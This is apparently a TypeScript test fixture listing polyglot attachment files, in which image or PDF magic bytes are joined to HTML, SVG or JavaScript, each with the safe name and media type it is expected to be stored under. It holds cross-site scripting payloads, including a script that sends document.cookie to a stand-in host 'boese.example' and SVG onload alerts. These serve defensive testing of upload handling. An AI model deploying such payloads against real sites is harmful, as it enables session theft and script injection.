import { pdf } from './raw-mail.ts';

interface Polyglot {
  name: string;
  /** What its sender says it is. */
  type: string;
  bytes: Buffer;
  /** As what it is kept; undefined where only its name is told. */
  keptAs?: { name: string; mediaType: string };
}

const page = '<html><body><script>fetch("https://boese.example/"+document.cookie)</script></body></html>';
const inComment = Buffer.from(`<!--${page}-->`);
const png = Buffer.from('89504e470d0a1a0a', 'hex');

/** Files that are two things at once, or that a browser would run if it were let to: of a page or picture with scripts. */
export const polyglots: readonly Polyglot[] = [
  {
    name: 'angebot.html',
    type: 'text/html',
    bytes: Buffer.concat([pdf, Buffer.from(page)]),
    keptAs: { name: 'angebot.html.pdf', mediaType: 'application/pdf' },
  },
  {
    name: 'foto.svg',
    type: 'image/svg+xml',
    bytes: Buffer.concat([png, Buffer.from(page)]),
    keptAs: { name: 'foto.svg.png', mediaType: 'image/png' },
  },
  {
    name: 'foto.xhtml',
    type: 'application/xhtml+xml',
    bytes: Buffer.concat([Buffer.from('ffd8ffe1', 'hex'), inComment]),
    keptAs: { name: 'foto.xhtml.jpg', mediaType: 'image/jpeg' },
  },
  {
    name: 'bild.js',
    type: 'text/javascript',
    bytes: Buffer.from('GIF89a/*....*/=1;alert(document.domain)'),
    keptAs: { name: 'bild.js.gif', mediaType: 'image/gif' },
  },
  { name: 'rechnung.pdf', type: 'application/pdf', bytes: Buffer.concat([Buffer.from(page), pdf]) },
  { name: 'foto.png', type: 'image/png', bytes: Buffer.concat([inComment, png]) },
  {
    name: 'logo.svg',
    type: 'image/svg+xml',
    bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`),
  },
  {
    name: 'zeichnung.png',
    type: 'image/png',
    bytes: Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`),
  },
  { name: 'seite.pdf', type: 'application/pdf', bytes: Buffer.from(page) },
];
